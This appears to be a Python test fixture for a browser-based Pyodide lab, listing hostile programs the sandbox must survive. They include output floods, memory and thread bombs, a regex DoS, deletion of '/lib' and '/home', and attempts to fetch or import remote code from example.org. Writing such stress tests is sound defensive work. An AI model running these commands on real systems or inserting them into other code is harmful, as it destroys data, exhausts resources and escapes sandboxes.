# ruff: noqa: E501  a program in a line each
"""Programs that mean no good, or are badly mistaken: what a lab has to outlive.

Each has a name. Those in ENDLESS never end by themselves, or not within a minute.
"""

FLOODS = {
    "print without end": "while True: print('x' * 50)",
    "write without lines": "import sys\nwhile True: sys.stdout.write('x' * 1000)",
    "one huge text": "print('a' * 200_000_000)",
    "control characters": "print('\\x00\\x1b[2J\\u2028<script>alert(1)</script>\\r\\r\\n\\ud800' * 1000)",
    "a million points": "from pynn import show\nfor i in range(10**6): show.curve('c', i, i)",
    "ten thousand pictures": (
        "import numpy as np\nfrom pynn import show\n"
        "for i in range(10_000): show.image(np.eye(8), name=str(i))"
    ),
    "a thousand charts": (
        "from pynn import show\nfor i in range(1000): show.curve('c', 1, 1, chart=str(i))"
    ),
    "a huge figure": "import numpy as np\nfrom pynn import show\nshow.image(np.ones((9000, 9000)))",
    "an endless figure": "import numpy as np\nfrom pynn import show\nshow.image(np.ones((9**6, 9**4)))",
    "a huge table": "from pynn import show\nshow.table([['x' * 1000] * 100] * 1000)",
    "a thousand files": (
        "from pynn import show\nfor i in range(300): show.file(f'{i}.bin', b'x' * 100_000)"
    ),
    "odd things shown": (
        "from pynn import show\nclass O:\n  def __str__(self): return 'o' * 10**6\n"
        "show.compare('a', '1', 1, o=O(), n=10**400)\nshow.line(O())\nshow.curve('c', 1, float('nan'))"
    ),
    "a message without end": "raise ValueError('x' * 100_000_000)",
    "errors in errors": (
        "def f(n):\n  try: f(n - 1) if n else 1 / 0\n  except Exception as e: raise ValueError(n) from e\n"
        "f(200)"
    ),
}

GREED = {
    "lists without end": "a = []\nwhile True: a.append(bytes(10**7))",
    "one huge array": "import numpy as np\na = np.ones((2**28,))\nb = a + 1",
    "huge integers": "x = 9 ** 9 ** 8",
    "recursion": "def f(): f()\nf()",
    "deep recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
    "recursion in C": "a = []\nfor _ in range(200_000): a = [a]\nprint(str(a)[:9], a == a)",
    "deep brackets": "eval('(' * 100_000 + ')' * 100_000)",
    "large files": "for i in range(100): open(f'{i}', 'wb').write(bytes(10**8))",
    "a slow expression": "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
    "a large product": "import numpy as np\na = np.ones((6000, 6000))\nwhile True: a @ a",
    "an endless sum": "sum(x for x in iter(int, 1))",
    "a long sleep": "import time\ntime.sleep(1000)",
    "threads": "import threading\nwhile True: threading.Thread(target=print).start()",
    "processes": "import os, subprocess\nsubprocess.run(['true'])",
}

DAMAGE = {
    "modules deleted": "import sys, pynn\nfor n in [n for n in sys.modules if 'pynn' in n]: del sys.modules[n]",
    "all modules deleted": "import sys\nsys.modules.clear()",
    "print overwritten": "import builtins\nbuiltins.print = None",
    "import overwritten": "import builtins\nbuiltins.__import__ = None",
    "builtins emptied": "import builtins\nvars(builtins).clear()",
    "stdout closed": "import sys\nsys.stdout.close()\nsys.stderr.close()\nprint('x')",
    "stdout taken": "import sys\nsys.stdout = sys.stderr = sys.__stdout__ = None\nprint('x')\n1 / 0",
    "show patched": "import pynn\npynn.show.line = pynn.show.map = pynn.show.calls.present = None",
    "stage patched": "from pynn.show import stage\nstage._present = stage._usual = stage.present = None",
    "the lab patched": "import pynn.lab.desk as d\nd.Lab.run = d.Lab.call = d.make_frame = d.runner = None",
    "the console patched": "import sys\nsys.stdout.console.post = None\nprint('x')",
    "junk posted": "import sys\nfor x in (None, 1, 'x', {}, []): \n  try: sys.stdout.console.post(x)\n  except Exception: pass",
    "health patched": "import pynn.lab.health as h\nh.Health.damage = lambda self: None\nh.Health.restore = lambda self: None\nimport builtins\nbuiltins.len = None",
    "time patched": "import time\ntime.monotonic = time.perf_counter = None",
    "numpy patched": "import numpy as np\nnp.ones = np.exp = np.array = None",
    "files deleted": "import os, shutil\nshutil.rmtree('/lib', ignore_errors=True)\nshutil.rmtree('/home', ignore_errors=True)",
    "the library overwritten": "open('/lib/python314.zip', 'wb').write(b'x')",
    "tracing": "import sys\nsys.settrace(lambda *a: 1 / 0)\nsys.setprofile(print)",
    "exit": "import os\nos._exit(3)",
    "abort": "import os\nos.abort()",
    "a crash": "import ctypes\nctypes.string_at(2**31 - 5, 10**6)",
    "at exit": "import atexit\natexit.register(lambda: 1 / 0)\nraise SystemExit('bye')",
    "tasks left behind": "import asyncio\nasync def f():\n  while True: pass\ntry: asyncio.get_event_loop().create_task(f())\nexcept RuntimeError: asyncio.ensure_future(f())",
    "warnings as errors": "import warnings\nwarnings.simplefilter('error')\nimport numpy as np\nnp.seterr(all='raise')",
    "finalizers": "class D:\n  def __del__(self): raise ValueError\n[D() for _ in range(1000)]",
}

REACHING = {
    "posting messages": "import js\nfor i in range(100): js.postMessage({'type': 'x'})",
    "js under another name": "import importlib, sys\nsys.modules.pop('js', None)\nimportlib.import_module('js').fetch('https://example.org/')",
    "fetch by run_js": "from pyodide.code import run_js\nrun_js(\"fetch('https://example.org/')\")",
    "import by run_js": "from pyodide.code import run_js\nrun_js(\"import('https://example.org/x.js')\")",
    "eval by pyodide": "import pyodide.code\npyodide.code.eval_(\"fetch('https://example.org/')\")",
    "pyfetch": "from pyodide.http import pyfetch\nimport asyncio\nasyncio.ensure_future(pyfetch('https://example.org/'))",
    "open_url": "from pyodide.http import open_url\nopen_url('https://example.org/')",
    "urllib": "from urllib.request import urlopen\nurlopen('https://example.org/mnist/x')",
    "a socket": "import socket\nsocket.create_connection(('example.org', 80), timeout=1)",
    "loadPackage": "import pyodide_js\npyodide_js.loadPackage('https://example.org/x.whl')",
    "indexedDB": "import js\njs.indexedDB.deleteDatabase('pynn-lab-programs')",
    "storage": "from pyodide.code import run_js\nrun_js('indexedDB.databases().then(d => d.forEach(x => indexedDB.deleteDatabase(x.name)))')",
    "by proxies": (
        "import gc\nfrom pyodide.ffi import JsProxy\n"
        "for o in gc.get_objects():\n  if isinstance(o, JsProxy):\n"
        "    try: o.constructor.constructor(\"fetch('https://example.org/')\")()\n"
        "    except BaseException: pass"
    ),
    "by the core": "import _pyodide_core\nprint(dir(_pyodide_core))\nimport pyodide_js._api",
    "a mounted store": "import pyodide_js\npyodide_js.FS.mkdir('/db')\npyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, {}, '/db')",
    "another worker": "import js\njs.Worker.new('https://example.org/x.js')",
}

CATCHING = {
    "catches everything": "while True:\n  try:\n    while True: pass\n  except BaseException: pass",
    "raises for ever": "while True:\n  try: raise KeyboardInterrupt\n  except BaseException as e: pass",
}

GROUPS = {
    "floods": FLOODS,
    "greed": GREED,
    "damage": DAMAGE,
    "reaching": REACHING,
    "catching": CATCHING,
}
